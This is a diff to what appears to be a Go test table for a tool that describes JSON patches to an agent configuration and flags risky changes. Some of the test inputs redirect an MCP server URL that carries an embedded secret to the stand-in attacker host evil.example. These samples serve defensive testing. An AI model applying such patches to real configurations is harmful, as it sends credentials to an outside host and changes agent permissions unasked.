@@ -76,7 +76,7 @@ source = { kind = "inline_secret", secret = "inline" }
 		{"an address that keeps its secret", `[{"op":"replace","path":"/tools/mcp_servers/1/url","value":"https://realmconf-secret%3A1%3A%2Ftools%2Fmcp_servers%2F1%2Furl@evil.example"}]`,
 			`/tools/mcp_servers[name="web"]/url (holds a secret, reaches the network, sets what agents may do): "https://" + (a secret, not shown) + "@mcp.example" → "https://" + (a secret, not shown) + "@evil.example"`},
 		{"an address with another one's secret", `[{"op":"add","path":"/tools/mcp_servers/-","value":{"name":"x","url":"https://realmconf-secret%3A1%3A%2Ftools%2Fmcp_servers%2F1%2Furl@evil.example"}}]`,
-			`/tools/mcp_servers[name="x"] (runs code, holds a secret, reaches the network, sets what agents may do): (absent) → {"name":"x","url":"https://" + (the secret from /tools/mcp_servers/1/url) + "@evil.example"}`},
+			`/tools/mcp_servers[name="x"] (runs code, holds a secret, reaches the network, sets what agents may do): (absent) → {"name":"x","url":"https://" + (the secret from /tools/mcp_servers[name="web"]/url) + "@evil.example"}`},
 		{"a new entry of a list", `[{"op":"add","path":"/hooks/entries","value":[{"id":"lint","runtime":{"type":"command","command":"lint","args":["--fast","-v"],"env":{"A":"1"}}}]}]`,
 			`/hooks/entries[id="lint"] (runs code, holds a secret, reaches the network, sets what agents may do): (absent) → {"id":"lint","runtime":{"args":["--fast","-v"],"command":"lint","env":{"A":"1"},"type":"command"}}`},
 		{"an entry that goes", `[{"op":"remove","path":"/tools/mcp_servers/0"}]`,
